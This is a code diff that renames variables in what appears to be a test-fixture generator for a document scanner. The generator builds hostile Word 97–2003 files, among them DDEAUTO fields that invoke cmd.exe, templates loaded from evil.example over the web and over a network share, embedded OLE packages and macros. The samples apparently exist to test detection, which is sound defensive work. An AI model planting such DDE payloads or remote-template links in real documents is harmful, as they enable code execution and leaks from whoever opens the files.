@@ -6,7 +6,7 @@ import { named } from "./named-files.ts";
 /** Word 97–2003 documents that run or fetch something, hide it, or are damaged. */
 export function hostileOldWord(): HostileFile[] {
   const dde = " DDEAUTO c:\\\\windows\\\\cmd.exe ";
-  const object = (name: string): CompoundPart => ({ name });
+  const part = (name: string): CompoundPart => ({ name });
   const active: [string, Buffer][] = [
     ["DDEAUTO", doc({ text: [`\u0013${dde}\u0014x\u0015\r`] })],
     ["DDE in 8 bits", doc({ text: ["A", "\u0013 dde Excel \u0014x\u0015\r"] })],
@@ -25,10 +25,10 @@ export function hostileOldWord(): HostileFile[] {
     ["template from elsewhere", doc({ template: "https://evil.example/t.dot" })],
     ["template from a share", doc({ template: "\\\\evil.example\\share\\t.dot" })],
     ["object", doc({ more: [{ name: "ObjectPool", isStorage: true, hasChildren: true }] })],
-    ["package", doc({ more: [object("\u0001Ole10Native")] })],
-    ["embedded document", doc({ more: [object("Package")] })],
-    ["object's note", doc({ more: [object("\u0003ObjInfo")] })],
-    ["control", doc({ more: [object("\u0003OCXNAME")] })],
+    ["package", doc({ more: [part("\u0001Ole10Native")] })],
+    ["embedded document", doc({ more: [part("Package")] })],
+    ["object's note", doc({ more: [part("\u0003ObjInfo")] })],
+    ["control", doc({ more: [part("\u0003OCXNAME")] })],
     ["macros", doc({ more: [{ name: "Macros", isStorage: true, hasChildren: true }] })],
   ];
   const hidden: [string, Buffer][] = [
@@ -37,15 +37,15 @@ export function hostileOldWord(): HostileFile[] {
     ["with a longer header", doc({ firstListLength: 16 })],
     ["of overlapping pieces", overlapping()],
   ];
-  const failures: [string, Buffer][] = [
+  const damaged: [string, Buffer][] = [
     ["cut off", doc().subarray(0, 3000)],
     ["chain without an end", endless()],
-    ["a second text", doc({ more: [object("WordDocument")] })],
+    ["a second text", doc({ more: [part("WordDocument")] })],
   ];
   return [
     ...named("doc", active, "active"),
     ...named("doc", hidden, "uncheckable"),
-    ...named("doc", failures, "corrupted"),
+    ...named("doc", damaged, "corrupted"),
   ];
 }
 
